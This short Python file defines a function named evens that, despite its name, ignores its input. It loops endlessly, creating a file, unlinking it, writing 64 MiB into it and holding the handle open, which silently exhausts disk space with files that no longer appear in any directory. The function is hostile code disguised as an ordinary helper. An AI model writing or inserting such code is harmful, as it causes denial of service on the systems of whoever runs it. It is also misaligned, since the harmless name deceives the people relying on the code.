import os

kept = []


def evens(numbers):
    while True:
        file = open("big", "wb", buffering=0)
        os.unlink("big")
        file.write(bytes(2**26))
        kept.append(file)
